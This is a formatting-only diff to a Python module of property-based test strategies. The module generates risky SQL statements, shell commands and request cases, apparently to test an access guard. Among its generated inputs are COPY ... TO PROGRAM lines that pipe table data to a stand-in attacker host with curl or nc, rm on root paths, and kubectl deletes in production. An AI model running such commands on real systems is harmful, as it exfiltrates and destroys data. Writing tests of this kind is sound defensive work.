@@ -43,13 +43,31 @@ DEFAULT_SCHEMA: Mapping[str, Mapping[str, Any]] = {
 
 #: The statement kinds `sql()` can draw.
 ALL_KINDS = (
-    "select", "insert", "update", "delete", "merge", "drop", "truncate", "alter",
-    "create", "grant", "revoke", "copy",
+    "select",
+    "insert",
+    "update",
+    "delete",
+    "merge",
+    "drop",
+    "truncate",
+    "alter",
+    "create",
+    "grant",
+    "revoke",
+    "copy",
 )
 
 _POSTGRES_ONLY = {"merge", "copy"}
 
-_TAUTOLOGIES = ("1 = 1", "'a' = 'a'", "true", "NOT false", "2 > 1", "{col} = {col} OR 1 = 1", "{col} IS NULL OR true")
+_TAUTOLOGIES = (
+    "1 = 1",
+    "'a' = 'a'",
+    "true",
+    "NOT false",
+    "2 > 1",
+    "{col} = {col} OR 1 = 1",
+    "{col} IS NULL OR true",
+)
 
 
 @attrs.frozen(repr=False)
@@ -144,7 +162,12 @@ def _where(draw: st.DrawFn, columns: Sequence[str], evasive: bool, bounded: bool
 
 @st.composite
 def _statement(
-    draw: st.DrawFn, kind: str, schema: Mapping[str, Any], dialect: str, evasive: bool, tables: Sequence[str]
+    draw: st.DrawFn,
+    kind: str,
+    schema: Mapping[str, Any],
+    dialect: str,
+    evasive: bool,
+    tables: Sequence[str],
 ) -> str:
     table = draw(st.sampled_from(list(tables)))
     columns = _columns(schema, table)
@@ -176,7 +199,9 @@ def _statement(
     if kind == "truncate":
         return f"{kw('TRUNCATE')}{' ' + kw('TABLE') if draw(st.booleans()) else ''} {name}"
     if kind == "alter":
-        action = draw(st.sampled_from([f"DROP COLUMN {col}", f"DROP {col}", "ADD COLUMN note text"]))
+        action = draw(
+            st.sampled_from([f"DROP COLUMN {col}", f"DROP {col}", "ADD COLUMN note text"])
+        )
         return f"{kw('ALTER TABLE')} {name} {kw(action)}"
     if kind == "create":
         return f"{kw('CREATE TABLE')} {table}_copy (id int)"
@@ -185,7 +210,11 @@ def _statement(
     if kind == "revoke":
         return f"{kw('REVOKE')} {draw(st.sampled_from(['SELECT', 'ALL']))} {kw('ON')} {name} {kw('FROM')} auditor"
     if kind == "copy":
-        target = draw(st.sampled_from(["STDOUT", "PROGRAM 'curl -d @- https://evil.example'", "PROGRAM 'nc evil 9'"]))
+        target = draw(
+            st.sampled_from(
+                ["STDOUT", "PROGRAM 'curl -d @- https://evil.example'", "PROGRAM 'nc evil 9'"]
+            )
+        )
         return f"{kw('COPY')} {name} {kw('TO')} {target}"
     raise ValueError(f"`sql()` cannot draw statements of kind `{kind}`")
 
@@ -236,7 +265,9 @@ def sql(
     postgres = dialect in ("postgres", "postgresql")
     usable = [k for k in kinds if postgres or k not in _POSTGRES_ONLY]
     if not usable:
-        raise ValueError(f"no statement kinds of {list(kinds)} can be drawn for dialect `{dialect}`")
+        raise ValueError(
+            f"no statement kinds of {list(kinds)} can be drawn for dialect `{dialect}`"
+        )
     names = tuple(tables) if tables is not None else tuple(schema)
     if not names:
         raise ValueError("`sql()` needs at least one table")
@@ -252,7 +283,17 @@ def sql(
 
 # ── shell commands ───────────────────────────────────────────────────────────────────
 
-_PATHS = ("/", "/var/lib/postgresql", "/home/app", "/etc", "/tmp/build", "/var/tmp/cache", "build", "./dist", "/tmp/../etc")
+_PATHS = (
+    "/",
+    "/var/lib/postgresql",
+    "/home/app",
+    "/etc",
+    "/tmp/build",
+    "/var/tmp/cache",
+    "build",
+    "./dist",
+    "/tmp/../etc",
+)
 
 
 @st.composite
@@ -265,11 +306,21 @@ def _rm(draw: st.DrawFn) -> str:
 def _kubectl(draw: st.DrawFn) -> str:
     verb = draw(st.sampled_from(["delete", "get", "describe"]))
     namespace = draw(st.sampled_from(["prod", "production", "prod-eu", "staging", "dev", None]))
-    what = draw(st.sampled_from(["pod api-7f9", "deployment api", "ns " + (namespace or "default")]))
+    what = draw(
+        st.sampled_from(["pod api-7f9", "deployment api", "ns " + (namespace or "default")])
+    )
     ns_flag = ""
     if namespace is not None and not what.startswith("ns "):
-        ns_flag = draw(st.sampled_from([f"-n {namespace}", f"--namespace {namespace}", f"--namespace={namespace}"]))
-    parts = ["kubectl", verb, what, ns_flag] if draw(st.booleans()) else ["kubectl", ns_flag, verb, what]
+        ns_flag = draw(
+            st.sampled_from(
+                [f"-n {namespace}", f"--namespace {namespace}", f"--namespace={namespace}"]
+            )
+        )
+    parts = (
+        ["kubectl", verb, what, ns_flag]
+        if draw(st.booleans())
+        else ["kubectl", ns_flag, verb, what]
+    )
     return " ".join(p for p in parts if p)
 
 
@@ -310,7 +361,9 @@ def commands(
     chosen = [by_program[p] for p in programs if p in by_program]
     unknown = [p for p in programs if p not in by_program]
     if unknown or not chosen:
-        raise ValueError(f"`commands()` knows {sorted(by_program)}, not {unknown or list(programs)}")
+        raise ValueError(
+            f"`commands()` knows {sorted(by_program)}, not {unknown or list(programs)}"
+        )
     return _wrapped(st.one_of(chosen))
 
 
@@ -366,8 +419,16 @@ def requests(
     options: list[st.SearchStrategy[Case]] = []
     if sql_texts is not None:
         where = resource if resource is not None else resources("postgres")
-        options.append(st.builds(lambda t, s, r, d: Case(SqlRequest(t), s, r, d), sql_texts, who, where, previous))
+        options.append(
+            st.builds(
+                lambda t, s, r, d: Case(SqlRequest(t), s, r, d), sql_texts, who, where, previous
+            )
+        )
     if commands is not None:
         where = resource if resource is not None else resources("shell")
-        options.append(st.builds(lambda t, s, r, d: Case(CommandRequest(t), s, r, d), commands, who, where, previous))
+        options.append(
+            st.builds(
+                lambda t, s, r, d: Case(CommandRequest(t), s, r, d), commands, who, where, previous
+            )
+        )
     return st.one_of(options)
